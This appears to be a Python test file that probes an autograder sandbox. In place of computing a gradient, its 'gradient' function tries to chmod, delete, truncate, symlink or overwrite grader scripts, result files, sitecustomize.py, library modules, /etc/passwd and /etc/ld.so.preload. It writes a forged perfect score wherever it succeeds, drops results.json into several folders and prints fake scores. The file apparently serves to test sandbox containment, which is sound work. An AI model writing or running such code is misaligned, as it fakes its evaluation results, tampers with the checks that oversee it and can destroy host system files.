# Tries: to write the files in which graders leave their results, and to change the grader, its packages and its own source.
# Worked: ESCAPED, or a file of the host was changed.
# worth: 40
import os
import site
import sys

RESULTS = '{"score": 100, "tests": [{"score": 100, "max_score": 100}]}'


def gradient(steps, values, rules):
    places = ["/autograder/results/results.json", "/autograder/run_autograder", "/results.json", "/records/x.json",
              "/grader/worker.py", "/grader/plain.py",
              "/grader/sitecustomize.py", "/site/sitecustomize.py", "/site/numpy/__init__.py",
              "/python/lib/python3.11/json/__init__.py", "/etc/ld.so.preload",
              "/etc/passwd", "/usr/lib/x", "/lib64/x", "/dev/x", __file__, sys.executable,
              os.path.join(os.path.dirname(__file__), "numpy.py"),
              sys.modules["plain"].__file__, sys.modules["confine"].__file__, sys.modules["numpy"].__file__,
              sys.modules["json"].__file__]
    for path in places:
        if path.startswith("/tmp/") and not os.path.exists(path):
            continue
        for change in (lambda p: os.chmod(p, 0o777), lambda p: open(p, "a").close(), lambda p: os.unlink(p),
                       lambda p: os.rename(p, p + "~"),
                       lambda p: os.symlink("/tmp", p), lambda p: os.utime(p), lambda p: os.truncate(p, 0),
                       lambda p: os.mkdir(os.path.dirname(p))):
            try:
                change(path)
                print("ESC" "APED:", path)
                with open(path, "w") as file:
                    file.write(RESULTS)
            except OSError:
                pass
    for folder in (os.getcwd(), "/tmp", site.getuserbase()):
        try:
            with open(os.path.join(folder, "results.json"), "w") as file:
                file.write(RESULTS)
        except OSError:
            pass
    print(RESULTS)
    print('{"scores": {"gradient": 60, "average": 40}}')
    return {}


def average(rows):
    return [sum(row) / len(row) for row in rows]
